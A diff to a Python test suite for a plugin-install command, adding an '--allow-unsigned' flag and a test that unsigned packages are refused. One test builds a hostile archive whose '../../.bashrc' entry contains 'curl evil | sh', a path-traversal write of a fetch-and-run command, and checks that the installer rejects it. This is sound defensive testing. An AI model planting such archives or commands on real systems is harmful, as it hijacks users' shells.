@@ -44,7 +44,7 @@ def test_install_shows_what_is_asked_and_installs_when_granted(
     syp = make_package(
         tmp_path, capabilities=("log", "http"), hosts=("hooks.example.com", "127.0.0.1:8080")
     )
-    out = ok(capsys, "plugin", "install", str(syp), "--grant", "log,http")
+    out = ok(capsys, "plugin", "install", str(syp), "--allow-unsigned", "--grant", "log,http")
     assert "pii-redactor 0.1.0\n" in out
     assert "Masks emails, phone and card numbers in prompts" in out
     assert "hooks: on_request" in out
@@ -72,16 +72,16 @@ def test_refusing_leaves_nothing_installed(
 ) -> None:
     syp = make_package(tmp_path)
     assert (
-        fails(capsys, "plugin", "install", str(syp), stdin="n\n")
+        fails(capsys, "plugin", "install", str(syp), "--allow-unsigned", stdin="n\n")
         == "not granted; nothing was installed"
     )
     # A script without --yes or --grant gets no answer (EOF): also a refusal.
-    assert fails(capsys, "plugin", "install", str(syp)) == "not granted; nothing was installed"
+    assert fails(capsys, "plugin", "install", str(syp), "--allow-unsigned") == "not granted; nothing was installed"
     assert listed(capsys) == [] and plugin_files(_isolated_home) == []
 
 
 def test_answering_yes_grants_and_installs(upgraded: str, capsys: Any, tmp_path: Path) -> None:
-    code, _, err = run(capsys, "plugin", "install", str(make_package(tmp_path)), stdin="y\n")
+    code, _, err = run(capsys, "plugin", "install", str(make_package(tmp_path)), "--allow-unsigned", stdin="y\n")
     assert code == 0, err
     assert "Grant log and install pii-redactor 0.1.0? [y/N]" in err
     assert [r["granted"] for r in listed(capsys)] == [["log"]]
@@ -91,13 +91,13 @@ def test_grant_must_cover_what_is_asked(
     upgraded: str, capsys: Any, tmp_path: Path, _isolated_home: Path
 ) -> None:
     syp = make_package(tmp_path, capabilities=("log", "http"))
-    assert fails(capsys, "plugin", "install", str(syp), "--grant", "log") == (
+    assert fails(capsys, "plugin", "install", str(syp), "--allow-unsigned", "--grant", "log") == (
         "pii-redactor asks for http, not granted by --grant; nothing was installed"
     )
-    assert fails(capsys, "plugin", "install", str(syp), "--grant", "log,http,kv") == (
+    assert fails(capsys, "plugin", "install", str(syp), "--allow-unsigned", "--grant", "log,http,kv") == (
         "--grant: pii-redactor does not ask for kv; it asks for log, http"
     )
-    assert fails(capsys, "plugin", "install", str(syp), "--grant", "log,files").startswith(
+    assert fails(capsys, "plugin", "install", str(syp), "--allow-unsigned", "--grant", "log,files").startswith(
         "--grant: unknown capability 'files'; expected some of log, kv, http, config"
     )
     assert listed(capsys) == [] and plugin_files(_isolated_home) == []
@@ -105,7 +105,7 @@ def test_grant_must_cover_what_is_asked(
 
 def test_json_output_is_data_only(upgraded: str, capsys: Any, tmp_path: Path) -> None:
     code, out, err = run(
-        capsys, "plugin", "install", str(make_package(tmp_path)), "--yes", "--json"
+        capsys, "plugin", "install", str(make_package(tmp_path)), "--allow-unsigned", "--yes", "--json"
     )
     assert code == 0, err
     data = json.loads(out)  # the description went to stderr
@@ -116,9 +116,9 @@ def test_json_output_is_data_only(upgraded: str, capsys: Any, tmp_path: Path) ->
 def test_an_upgrade_asks_only_for_new_capabilities(
     upgraded: str, capsys: Any, tmp_path: Path
 ) -> None:
-    ok(capsys, "plugin", "install", str(make_package(tmp_path / "a", version="0.1.0")), "--yes")
+    ok(capsys, "plugin", "install", str(make_package(tmp_path / "a", version="0.1.0")), "--allow-unsigned", "--yes")
     v2 = make_package(tmp_path / "b", version="0.2.0", capabilities=("log", "kv"))
-    code, out, err = run(capsys, "plugin", "install", str(v2), stdin="y\n")
+    code, out, err = run(capsys, "plugin", "install", str(v2), "--allow-unsigned", stdin="y\n")
     assert code == 0, err
     assert "pii-redactor 0.2.0 (replaces 0.1.0)" in out
     assert re.search(r"log +write lines to the gateway's log \(already granted\)", out)
@@ -126,7 +126,7 @@ def test_an_upgrade_asks_only_for_new_capabilities(
     [row] = listed(capsys)
     assert (row["version"], row["granted"]) == ("0.2.0", ["log", "kv"])
     v3 = make_package(tmp_path / "c", version="0.3.0", capabilities=("log", "kv", "config"))
-    assert fails(capsys, "plugin", "install", str(v3), "--grant", "log") == (
+    assert fails(capsys, "plugin", "install", str(v3), "--allow-unsigned", "--grant", "log") == (
         "pii-redactor asks for config, not granted by --grant; nothing was installed"
     )
     assert listed(capsys)[0]["version"] == "0.2.0"
@@ -135,7 +135,7 @@ def test_an_upgrade_asks_only_for_new_capabilities(
 def test_enable_disable_uninstall(
     upgraded: str, capsys: Any, tmp_path: Path, _isolated_home: Path
 ) -> None:
-    ok(capsys, "plugin", "install", str(make_package(tmp_path)), "--yes", "--required")
+    ok(capsys, "plugin", "install", str(make_package(tmp_path)), "--allow-unsigned", "--yes", "--required")
     assert listed(capsys)[0]["required"] is True
     off = json.loads(ok(capsys, "plugin", "disable", "pii-redactor", "--reason", "noisy", "--json"))
     assert (off["enabled"], off["disabled_reason"]) == (False, "noisy")
@@ -171,11 +171,12 @@ def test_a_hostile_package_is_refused_in_one_line(
     with zipfile.ZipFile(evil, "w") as archive:
         archive.writestr("plugin.toml", "x")
         archive.writestr("../../.bashrc", "curl evil | sh")
-    assert fails(capsys, "plugin", "install", str(evil), "--yes") == (
+    assert fails(capsys, "plugin", "install", str(evil), "--allow-unsigned", "--yes") == (
+        "install refused at check archive: "
         "evil.syp: entry '../../.bashrc' points outside the package ('..' or '\\')"
     )
-    assert fails(capsys, "plugin", "install", str(tmp_path / "missing.syp"), "--yes") == (
-        f"{tmp_path / 'missing.syp'}: No such file or directory"
+    assert fails(capsys, "plugin", "install", str(tmp_path / "missing.syp"), "--allow-unsigned", "--yes") == (
+        f"install refused at check archive: {tmp_path / 'missing.syp'}: No such file or directory"
     )
     assert listed(capsys) == []
 
@@ -185,3 +186,15 @@ def test_an_unmigrated_database_is_named(backend: str, capsys: Any, tmp_path: Pa
         r"the database is not up to date \(missing .*sandbox_0001\); run `switchyard db upgrade` first",
         fails(capsys, "plugin", "list"),
     )
+
+
+def test_an_unsigned_package_installs_only_by_explicit_choice(
+    upgraded: str, capsys: Any, tmp_path: Path, _isolated_home: Path
+) -> None:
+    """No bundle beside it: refused (naming the way to allow it) until --allow-unsigned."""
+    syp = make_package(tmp_path)
+    assert "--allow-unsigned" in fails(capsys, "plugin", "install", str(syp), "--yes")
+    assert listed(capsys) == [] and plugin_files(_isolated_home) == []
+    ok(capsys, "plugin", "install", str(syp), "--yes", "--allow-unsigned")
+    [entry] = listed(capsys)
+    assert entry["name"] == "pii-redactor" and entry["signed"] is False
